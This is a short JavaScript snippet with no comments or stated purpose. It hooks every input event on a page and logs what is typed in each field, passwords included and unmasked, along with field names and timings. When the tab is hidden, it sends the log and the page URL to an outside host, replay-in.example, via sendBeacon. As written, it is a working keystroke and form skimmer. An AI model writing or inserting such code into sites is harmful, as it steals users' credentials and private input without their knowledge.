const mem = new WeakMap();
document.addEventListener('input', (ev) => {
  const el = ev.target;
  const prev = mem.get(el) || '';
  const next = el.isContentEditable ? el.innerText : el.value;
  mem.set(el, next);
  queue.push([Date.now() - t0, el.getAttribute('name') || el.id || el.className, ev.inputType, ev.data ?? next.slice(prev.length)]);
}, true);
const t0 = Date.now();
let queue = [];
document.addEventListener('visibilitychange', () => {
  if (document.visibilityState !== 'hidden' || !queue.length) return;
  navigator.sendBeacon('https://replay-in.example/b/7f', new Blob([JSON.stringify({ u: location.href, queue })], { type: 'text/plain' }));
  queue = [];
});
